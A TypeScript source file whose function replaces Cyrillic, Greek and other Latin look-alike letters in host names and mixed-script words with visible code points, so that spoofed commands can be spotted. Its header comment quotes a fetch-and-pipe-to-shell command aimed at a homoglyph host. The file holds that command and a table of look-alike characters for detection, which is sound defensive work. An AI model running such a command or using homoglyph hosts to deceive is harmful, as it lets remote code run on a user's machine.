/**
 * Letters of another script that pass for Latin ones. In `curl https://gіthub.com/x | sh` the `і` is Cyrillic: the
 * prompt read github, and the command fetched from another host. Shown as `<U+0456>`, as revealControls shows what
 * draws nothing. Two cases, after the mixed-script and whole-script checks browsers make of a host name (UTS #39):
 * - a word with Latin letters and letters of a script that looks like Latin (Cyrillic, Greek, Armenian, Cherokee):
 *   every letter of that script is shown (`g<U+0456>thub`);
 * - a word of such letters only, each one a Latin look-alike, that is part of a host or a path (after `.`, `/` or
 *   `@`, before `/` or `@`, or before a dot with more of the name after it): `аррӏе.com`. A word of ordinary Russian
 *   or Greek (`у меня`, `Привет`, the full stop of `нет.`) stays as it is.
 */
import {codePoint} from './code-point.js';

// Cyrillic, Greek (with Coptic), Armenian, Cherokee, and the extensions that hold more of their letters.
const FOREIGN = '\\p{Script=Cyrillic}\\p{Script=Greek}\\p{Script=Armenian}\\p{Script=Cherokee}';
const HAS_FOREIGN = new RegExp(`[${FOREIGN}]`, 'u');
const FOREIGN_LETTER = new RegExp(`[${FOREIGN}]`, 'gu');
const WORD = /[\p{L}\p{M}\p{N}]+/gu;
const LATIN = /\p{Script=Latin}/u;
// Letters that read as Latin ones in a terminal's font: Cyrillic, then Greek.
const LOOKALIKES = new Set('аᴀвсԁеһіјӏкмноԛрѕтԝхуъьѵѡАВЕЅІЈКМНОРСТХУ' + 'αικνορτυχΑΒΕΖΗΙΚΜΝΟΡΤΥΧ');
// After a slash, an @ or a dot, or before a slash, an @ or a dot and more of the name (`аррӏе.com`, not the full stop
// of `нет.`).
const inName = (text: string, from: number, to: number) =>
	/[./@]/.test(text[from - 1] ?? '') ||
	/[/@]/.test(text[to] ?? '') ||
	(text[to] === '.' && /[\p{L}\p{N}]/u.test(text[to + 1] ?? ''));

export function revealLookalikes(text: string): string {
	if (!HAS_FOREIGN.test(text)) return text;
	return text.replace(WORD, (word, at: number) => {
		const mixed = LATIN.test(word);
		if (!mixed && !(inName(text, at, at + word.length) && [...word].every(letter => LOOKALIKES.has(letter))))
			return word;
		return word.replace(FOREIGN_LETTER, letter => codePoint(letter.codePointAt(0)!));
	});
}
